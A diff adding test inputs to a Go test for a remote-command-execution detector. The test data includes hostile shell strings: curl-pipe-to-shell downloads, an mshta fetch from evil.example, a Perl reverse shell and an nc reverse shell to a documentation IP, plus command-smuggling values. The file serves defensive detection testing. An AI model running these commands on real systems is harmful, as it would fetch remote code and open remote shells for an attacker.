@@ -10,6 +10,9 @@ func TestRCERuns(t *testing.T) {
 		"x; LESSOPEN='/bin/sh #' less /etc/passwd",
 		";$0<<<id",
 		"iex $x",
+		"curl http://203.0.113.9/x.sh | bash",
+		"mshta http://evil.example/a.hta",
+		"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.9:4242\");system$_ while<>;'",
 		"x || nmap-helper --script-args 'os.execute(\"/bin/sh\")'",
 		"1 && ranger -c /bin/bash",
 		"nc 203.0.113.9 4444 -e sh",
@@ -55,6 +58,7 @@ func TestRCERuns(t *testing.T) {
 		"$a = 1; $b = 2;",
 		"node: document.querySelector",
 		"Wow!/bin/sh works",
+		"curl https://get.example.com | sh",
 	})
 	recognises(t, RCE, Where{Place: InQuery}, []string{
 		"$(htop2 -d /tmp/x)",
